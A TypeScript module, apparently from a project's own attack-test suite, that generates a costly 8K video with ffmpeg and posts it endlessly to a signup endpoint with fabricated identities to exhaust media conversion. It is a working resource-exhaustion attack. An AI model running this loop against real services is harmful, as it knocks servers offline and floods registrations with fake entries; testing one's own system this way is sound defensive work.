import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { findFfmpeg } from '../../../../scripts/ffmpeg.mjs';
import { formOf, passport, person } from '../../../support/entries/entryForms.ts';
import type { AttackTarget } from './attackTarget.ts';
import { post } from './post.ts';

const BETWEEN_MS = 2_000;

/** Registers again and again with an 8K recording that takes minutes to convert. */
export async function hostileRecordings(target: AttackTarget): Promise<never> {
  const content = new Uint8Array(readFileSync(hostileFile()));
  for (let number = 0; ; number += 1) {
    const fields = { ...person(), civil_id: String(62_000_000 + number), comp_id: target.competition };
    const form = formOf(fields, {
      media_file: { name: 'a.mp4', content, type: 'video/mp4' },
      id_passport_url: passport(),
    });
    await post(target, '/api/signup', new Response(form)).catch(() => {});
    await sleep(BETWEEN_MS);
  }
}

function hostileFile(): string {
  const path = join(mkdtempSync(join(tmpdir(), 'sawt-attack-')), 'a.mp4');
  const picture = ['-f', 'lavfi', '-i', 'testsrc2=s=7680x4320:r=30:d=2'];
  const coding = ['-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv422p'];
  execFileSync(findFfmpeg() ?? 'ffmpeg', ['-loglevel', 'error', ...picture, ...coding, path]);
  return path;
}
